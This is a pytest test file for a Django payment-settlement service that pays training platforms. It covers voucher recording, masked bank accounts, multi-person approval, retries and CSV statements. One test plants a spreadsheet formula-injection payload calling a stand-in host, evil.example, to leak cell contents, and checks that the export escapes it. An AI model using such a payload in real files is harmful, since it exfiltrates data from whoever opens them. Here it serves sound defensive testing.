"""Settlement to the digital platforms: record, prepare, approve (two-person rule), paid or failed, statement."""

import csv
import io

import pytest

from disbursement.enums import BatchStatus, PayoutStatus, ProgrammeAccount, SettlementState
from disbursement.models import LedgerAccount, Payout, PayoutBatch, SettlementItem
from disbursement.selectors import ledger_check
from disbursement.services import (
    BatchError,
    batch_approve,
    batch_cancel,
    payout_mark_paid,
    payout_move_to_next_batch,
    payout_retry,
)
from disbursement.services.settlements import (
    SettlementError,
    settlement_bank_account_set,
    settlement_batch_prepare,
    settlement_item_state,
    settlement_items_record,
    settlement_statement_csv,
    settlement_summary,
)
from prakerja.models import AuditEntry, Notification
from tests.disbursement.factories import PaymentPartnerFactory
from tests.disbursement.payout_helpers import FakePartner, finance_officer, use_fake_partner
from tests.disbursement.settlement_helpers import platform_payee, purchase_into, redeemed, with_bank
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db


def _balance(code: str) -> int:
    return LedgerAccount.objects.get(code=code).balance


def _states(payee) -> list[str]:
    items = SettlementItem.objects.filter(account=payee).select_related("payout__batch").order_by("id")
    return [settlement_item_state(item) for item in items]


def test_a_voucher_is_recorded_once_and_only_for_money_paid_into_the_payable():
    payee = platform_payee()
    items = redeemed(payee, 300_000, 450_000)
    assert SettlementItem.objects.count() == 2
    assert settlement_items_record(account=payee, items=items) == 0  # a repeat records nothing
    assert SettlementItem.objects.count() == 2
    wrong = purchase_into(payee, key="x", amount=100_000)
    bad = items[0].__class__(**{**items[0].__dict__, "source_reference": "v:x", "movement_id": wrong.pk})
    with pytest.raises(ValueError, match="did not pay 300000"):
        settlement_items_record(account=payee, items=[bad])
    other = platform_payee(code="platform_payable:901", name="Lain")
    stolen = items[0].__class__(**{**items[0].__dict__, "source_reference": "v:y"})
    with pytest.raises(ValueError):  # the movement paid another platform
        settlement_items_record(account=other, items=[stolen])
    assert SettlementItem.objects.count() == 2


def test_no_settlement_without_a_bank_account():
    payee = platform_payee()
    redeemed(payee, 300_000)
    with pytest.raises(SettlementError) as refused:
        settlement_batch_prepare(account_id=payee.pk, actor=finance_officer("o1@x.test"))
    assert "belum punya rekening bank" in str(refused.value.message)
    assert not PayoutBatch.objects.exists()


def test_bank_account_is_encrypted_masked_audited_and_never_an_ewallet():
    payee = platform_payee()
    partner = PaymentPartnerFactory(kind="bank", channels=["bni", "ovo"])
    officer = finance_officer("o2@x.test")
    account = settlement_bank_account_set(
        account_id=payee.pk,
        partner=partner,
        channel="bni",
        account_number="0987-654-3210",
        holder_name="PT PLATFORM UJI",
        actor=officer,
    )
    assert "09876543210" not in account.account_number_encrypted
    assert account.account_number_masked == "•••••••3210"
    entry = AuditEntry.objects.get(action="disbursement.settlement_account_bank_set")
    assert entry.data["account"] == "•••••••3210"
    assert "09876543210" not in str(entry.data)
    with pytest.raises(SettlementError):
        settlement_bank_account_set(
            account_id=payee.pk, partner=partner, channel="ovo", account_number="08123456789",
            holder_name="X", actor=officer,
        )  # fmt: skip
    with pytest.raises(SettlementError):
        settlement_bank_account_set(
            account_id=payee.pk, partner=partner, channel="bni", account_number="12ab",
            holder_name="X", actor=officer,
        )  # fmt: skip
    with pytest.raises(SettlementError):  # no permission
        settlement_bank_account_set(
            account_id=payee.pk, partner=partner, channel="bni", account_number="1234567890",
            holder_name="X", actor=UserFactory(is_staff=True),
        )  # fmt: skip


def test_prepare_approve_send_pays_the_platform_and_the_ledger_adds_up(
    monkeypatch, django_capture_on_commit_callbacks
):
    fake = use_fake_partner(monkeypatch, FakePartner("paid"))
    payee = with_bank(platform_payee())
    redeemed(payee, 300_000, 450_000)
    purchase_into(payee, key="not-redeemed", amount=200_000)  # bought, not redeemed: stays payable
    preparer, approver = finance_officer("o3@x.test"), finance_officer("o4@x.test")
    batch = settlement_batch_prepare(account_id=payee.pk, actor=preparer)
    assert (batch.payout_count, batch.total_amount, batch.settlement_account_id) == (1, 750_000, payee.pk)
    assert _states(payee) == [SettlementState.WAITING, SettlementState.WAITING]
    assert _balance(payee.payable_code) == 200_000
    assert _balance(f"partner_clearing:{payee.partner_id}") == 750_000
    assert settlement_batch_prepare(account_id=payee.pk, actor=preparer) is None  # nothing open any more
    with pytest.raises(BatchError):
        batch_approve(batch_id=batch.pk, officer=preparer)  # the two-person rule
    with django_capture_on_commit_callbacks(execute=True):
        batch_approve(batch_id=batch.pk, officer=approver)
    payout = Payout.objects.get(batch=batch)
    assert payout.status == PayoutStatus.PAID
    assert (payout.owner_id, payout.entitlement_id, payout.reference) == (
        None,
        None,
        f"PKS-{batch.pk}-{payee.pk}",
    )
    assert [call["account_number"] for call in fake.calls] == ["1234567890"]
    assert fake.calls[0]["description"] == f"Penyelesaian Prakerja PKS-{batch.pk}-{payee.pk}"
    assert fake.calls[0]["amount"] == 750_000
    assert _states(payee) == [SettlementState.PAID, SettlementState.PAID]
    assert _balance(payee.payable_code) == 200_000
    assert _balance(f"partner_clearing:{payee.partner_id}") == 0
    assert _balance(ProgrammeAccount.PLATFORMS_PAID_OUT) == 750_000
    assert PayoutBatch.objects.get(pk=batch.pk).status == BatchStatus.DONE
    assert not Notification.objects.exists()  # a platform gets no personal SMS
    assert set(AuditEntry.objects.values_list("action", flat=True)) >= {
        "disbursement.settlement_prepare",
        "disbursement.batch_approve",
        "disbursement.batch_approve_refused",
    }
    assert ledger_check().ok


def test_a_failed_settlement_reverses_into_the_payable_then_retry_pays(
    monkeypatch, django_capture_on_commit_callbacks
):
    fake = use_fake_partner(monkeypatch, FakePartner("failed"))
    payee = with_bank(platform_payee())
    redeemed(payee, 300_000)
    batch = settlement_batch_prepare(account_id=payee.pk, actor=finance_officer("o5@x.test"))
    with django_capture_on_commit_callbacks(execute=True):
        batch_approve(batch_id=batch.pk, officer=finance_officer("o6@x.test"))
    payout = Payout.objects.get(batch=batch)
    assert (payout.status, payout.failure_code) == (PayoutStatus.FAILED, "account_closed")
    assert _states(payee) == [SettlementState.FAILED]
    assert _balance(payee.payable_code) == 300_000
    assert _balance(f"partner_clearing:{payee.partner_id}") == 0
    assert ledger_check().ok
    assert settlement_batch_prepare(account_id=payee.pk, actor=finance_officer("o7@x.test")) is None
    fake.first.clear()
    fake.default = "paid"
    with django_capture_on_commit_callbacks(execute=True):
        assert payout_retry(payout_id=payout.pk, actor=finance_officer("o8@x.test"))
    payout.refresh_from_db()
    assert (payout.status, payout.round) == (PayoutStatus.PAID, 2)
    assert len({call["idempotency_key"] for call in fake.calls}) == 1  # the same key at the partner
    assert _balance(payee.payable_code) == 0
    assert _balance(ProgrammeAccount.PLATFORMS_PAID_OUT) == 300_000
    assert ledger_check().ok


def test_a_failed_settlement_moved_to_the_next_batch_is_settled_again(
    monkeypatch, django_capture_on_commit_callbacks
):
    use_fake_partner(monkeypatch, FakePartner("failed"))
    payee = with_bank(platform_payee())
    redeemed(payee, 300_000)
    first = settlement_batch_prepare(account_id=payee.pk, actor=finance_officer("o9@x.test"))
    with django_capture_on_commit_callbacks(execute=True):
        batch_approve(batch_id=first.pk, officer=finance_officer("o10@x.test"))
    failed = Payout.objects.get(batch=first)
    assert payout_move_to_next_batch(payout_id=failed.pk, actor=finance_officer("o11@x.test"))
    assert _states(payee) == [SettlementState.OPEN]
    redeemed(payee, 100_000, start=2)
    second = settlement_batch_prepare(account_id=payee.pk, actor=finance_officer("o12@x.test"))
    assert second.total_amount == 400_000
    assert SettlementItem.objects.filter(payout__batch=second).count() == 2
    assert _balance(payee.payable_code) == 0
    assert ledger_check().ok


def test_a_settlement_failed_here_but_paid_at_the_partner_is_marked_paid(
    monkeypatch, django_capture_on_commit_callbacks
):
    use_fake_partner(monkeypatch, FakePartner("failed"))
    payee = with_bank(platform_payee())
    redeemed(payee, 300_000)
    batch = settlement_batch_prepare(account_id=payee.pk, actor=finance_officer("o13@x.test"))
    with django_capture_on_commit_callbacks(execute=True):
        batch_approve(batch_id=batch.pk, officer=finance_officer("o14@x.test"))
    payout = Payout.objects.get(batch=batch)
    assert payout_mark_paid(payout_id=payout.pk, actor=finance_officer("o15@x.test"))  # reconciliation
    assert _states(payee) == [SettlementState.PAID]
    assert _balance(payee.payable_code) == 0
    assert _balance(ProgrammeAccount.PLATFORMS_PAID_OUT) == 300_000
    assert ledger_check().ok


def test_cancelling_a_settlement_batch_opens_its_vouchers_again():
    payee = with_bank(platform_payee())
    redeemed(payee, 300_000, 200_000)
    batch = settlement_batch_prepare(account_id=payee.pk, actor=finance_officer("o16@x.test"))
    batch_cancel(batch_id=batch.pk, officer=finance_officer("o17@x.test"))
    assert Payout.objects.get(batch=batch).status == PayoutStatus.CANCELLED
    assert _states(payee) == [SettlementState.OPEN, SettlementState.OPEN]
    assert _balance(payee.payable_code) == 500_000
    again = settlement_batch_prepare(account_id=payee.pk, actor=finance_officer("o18@x.test"))
    assert again.total_amount == 500_000
    assert ledger_check().ok


def test_a_large_settlement_waits_for_a_third_approval(
    settings, monkeypatch, django_capture_on_commit_callbacks
):
    settings.PAYOUT_THIRD_APPROVAL_ABOVE = 500_000
    use_fake_partner(monkeypatch, FakePartner("paid"))
    payee = with_bank(platform_payee())
    redeemed(payee, 300_000, 450_000)
    batch = settlement_batch_prepare(account_id=payee.pk, actor=finance_officer("o19@x.test"))
    assert batch.approvals_required == 2
    with django_capture_on_commit_callbacks(execute=True):
        assert (
            batch_approve(batch_id=batch.pk, officer=finance_officer("o20@x.test")).status
            == BatchStatus.PREPARED
        )
    assert Payout.objects.get(batch=batch).status == PayoutStatus.QUEUED
    with django_capture_on_commit_callbacks(execute=True):
        batch_approve(batch_id=batch.pk, officer=finance_officer("o21@x.test"))
    assert Payout.objects.get(batch=batch).status == PayoutStatus.PAID
    assert ledger_check().ok


def test_statement_lists_each_voucher_and_escapes_formulas(monkeypatch, django_capture_on_commit_callbacks):
    use_fake_partner(monkeypatch, FakePartner("paid"))
    payee = with_bank(platform_payee())
    redeemed(payee, 300_000, description='=HYPERLINK("http://evil.example/?"&A1)')
    batch = settlement_batch_prepare(account_id=payee.pk, actor=finance_officer("o22@x.test"))
    with django_capture_on_commit_callbacks(execute=True):
        batch_approve(batch_id=batch.pk, officer=finance_officer("o23@x.test"))
    redeemed(payee, 200_000, start=2)
    rows = list(csv.reader(io.StringIO(settlement_statement_csv(account=payee))))
    assert rows[0] == [
        "voucher",
        "training",
        "redeemed_at",
        "amount",
        "batch",
        "payout_reference",
        "status",
        "paid_at",
    ]
    by_code = {row[0]: row for row in rows[1:]}
    assert by_code["VCR00001"][1] == '\'=HYPERLINK("http://evil.example/?"&A1)'
    assert by_code["VCR00001"][3:7] == ["300000", str(batch.pk), f"PKS-{batch.pk}-{payee.pk}", "Dibayar"]
    assert by_code["VCR00002"][3:7] == ["200000", "", "", "Belum diselesaikan"]
    summary = settlement_summary(account=payee)
    assert (summary["paid_count"], summary["paid_amount"], summary["open_count"], summary["open_amount"]) == (
        1,
        300_000,
        1,
        200_000,
    )
    assert summary["payable_balance"] == 200_000


def test_only_finance_officers_prepare():
    payee = with_bank(platform_payee())
    redeemed(payee, 300_000)
    with pytest.raises(SettlementError):
        settlement_batch_prepare(account_id=payee.pk, actor=UserFactory(is_staff=True))
    assert not PayoutBatch.objects.exists()
